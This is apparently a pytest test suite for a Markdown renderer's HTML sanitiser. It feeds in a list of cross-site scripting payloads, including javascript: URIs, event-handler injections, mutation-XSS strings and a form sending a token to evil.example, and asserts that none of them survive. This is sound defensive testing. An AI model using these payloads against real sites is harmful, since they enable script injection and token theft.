"""Markdown as HTML: what people see, and what an attacker does not get."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pegasus.web.markdown import MAX_LENGTH, render_markdown

DIRECTED = ("p", "h1", "h2", "h3", "h4", "h5", "h6", "li", "blockquote", "th", "td", "pre", "ul")
PLAIN = ("br", "s", "em", "hr", "strong", "table", "tbody", "thead", "tr")
ALLOWED = {
    "a": {"href", "target", "rel"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start", "dir"},
    **{tag: {"dir"} for tag in DIRECTED},
    **{tag: set() for tag in PLAIN},
}


class Judge(HTMLParser):
    """Reads HTML as a browser does, and keeps its tags and its text."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError("a comment")


def check(html):
    """Every element and attribute is one that can do no harm."""
    judge = Judge(html)
    for tag, attributes in judge.tags:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ALLOWED[tag], (tag, attributes)
        if "href" in attributes:
            assert re.match(r"(https?|mailto):", attributes["href"]), attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
        assert attributes.get("class", "host") == "host" or re.fullmatch(r"language-[\w+#.-]+", attributes["class"])
    return judge


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<style>*{display:none}</style>",
    '<form action="https://evil.example"><input name=token>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/logout)",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x](https://evil.example/?secret "onload=alert(1)")',
    '[a](https://a.example "\\" onmouseover=alert(1)")',
    '```js" onload=alert(1)\nx\n```',
    "```<script>\nx\n```",
    "`<b>`<b>",
    "> > <details open ontoggle=alert(1)>",
    "| <u>a | b |\n|---|---|\n| <script>x | `|` |",
    "<!-- --><b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[<img src=x>](https://a.example)",
    "**<b onclick=x>**",
    '<https://a.example/"onclick=alert(1)>',
    'https://a.example/"onclick=alert(1)',
    "https://a.example/<script>",
    "[a]: javascript:alert(1)\n[a]",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


PIECES = [*ATTACKS, "\n", "\n\n", "- ", "`", "[", "](", "<", "&"]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_of_an_attack_reaches_the_page(text):
    check(render_markdown(text))
    check(render_markdown(f"> - {text}\n\n1. *{text}*\n\n| a |\n|---|\n| {text} |"))


@given(st.text(max_size=300) | st.lists(st.sampled_from(PIECES)).map("".join))
@settings(max_examples=150, deadline=None)
def test_no_text_breaks_out(text):
    check(render_markdown(text))


def test_tags_are_shown_as_they_were_typed():
    assert check(render_markdown("<b>hi</b> & <i>")).text.strip() == "<b>hi</b> & <i>"


def test_what_people_write_is_laid_out():
    html = render_markdown(
        "# T\n\n**b** *i* ~~d~~ `c`\nnext line\n\n- a\n  1. b\n\n> q\n\n| x | y |\n|--:|---|\n| 1 | 2 |\n\n---"
    )
    for part in (
        "<h1",
        "<strong>b</strong>",
        "<em>i</em>",
        "<s>d</s>",
        "<code>c</code>",
        "<br>",
        "<ul>",
        "<ol>",
        "<blockquote",
        "<th",
        "<hr>",
    ):
        assert part in html


def test_a_code_block_names_its_language_and_keeps_every_character():
    html = render_markdown("```python\nif a < b and c > d:\n    print('&amp;')\n```")
    assert '<code class="language-python">' in html
    assert check(html).text.strip() == "if a < b and c > d:\n    print('&amp;')"


def test_addresses_become_links_without_the_full_stop_behind_them():
    html = render_markdown("See https://docs.example/a_b_c, or (https://x.example).")
    assert [attributes["href"] for _, attributes in check(html).tags if "href" in attributes] == [
        "https://docs.example/a_b_c",
        "https://x.example",
    ]


def test_an_address_in_code_is_no_link():
    assert "<a" not in render_markdown("`https://a.example`")


def test_an_image_is_a_link_since_loading_it_would_tell_its_server():
    html = render_markdown("![a cat](https://pics.example/cat.png)")
    assert "<img" not in html
    assert check(html).text.strip() == "a cat (pics.example)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[https://bank.example/login](https://evil.example)", "https://bank.example/login (evil.example)"),
        ("[www.bank.example](https://evil.example)", "www.bank.example (evil.example)"),
        ("[https://bank.example@evil.example](https://evil.example)", "https://bank.example@evil.example"),
        ("[docs](https://a.example)", "docs"),
        ("[a.example/x](https://www.a.example/x)", "a.example/x"),
    ],
)
def test_a_link_that_names_another_host_says_where_it_leads(text, shown):
    assert check(render_markdown(text)).text.strip() == shown


def test_characters_that_turn_the_direction_of_writing_are_removed():
    html = render_markdown("a\u202eb\u2066c `x\u202dy` [t\u202e](https://a.example/\u202e)")
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(html)


def test_each_block_finds_its_own_direction():
    assert render_markdown("שלום\n\nhello").count('dir="auto"') == 2


@pytest.mark.parametrize(
    "unit", ["- ", "> ", "* a\n", "[", "[a](", "*a**b", "`" * 3 + "a\n", "<a", "&a;", "a\n\n", "|a", "word "]
)
def test_a_text_of_99_kb_loses_nothing_and_stays_harmless(unit):
    text = f"begin {unit}" * (99_000 // (len(unit) + 6))
    judge = check(render_markdown(text))
    assert judge.text.count("begin") == text.count("begin")


def test_what_is_nested_deeper_than_the_parser_goes_is_shown_as_it_is():
    assert "bottom" in render_markdown("> " * 500 + "bottom")
    assert "bottom" in render_markdown(
        "\n".join("  " * depth + "- a" for depth in range(200)) + "\n" + "  " * 200 + "- bottom"
    )


def test_a_text_that_is_too_long_is_not_parsed():
    text = "*a* <b>" * (MAX_LENGTH // 6)
    html = render_markdown(text)
    assert html.startswith("<pre")
    assert check(html).text == text


def test_half_a_surrogate_pair_becomes_a_question_mark():
    assert check(render_markdown("a\ud800b")).text.strip() == "a?b"


def test_cells_stand_where_their_column_says():
    html = render_markdown("| a | b | c |\n|--:|:-:|---|\n| 1 | 2 | 3 |")
    assert '<td dir="auto" class="right">1</td>' in html
    assert '<td dir="auto" class="middle">2</td>' in html
    assert '<td dir="auto">3</td>' in html
    assert "style" not in html


def test_a_list_of_things_to_do_has_boxes():
    html = render_markdown("- [x] done\n- [ ] open\n- [y] neither\n\n[x] no list")
    for text in ("☑ done", "☐ open", "[y] neither", "[x] no list"):
        assert text in html
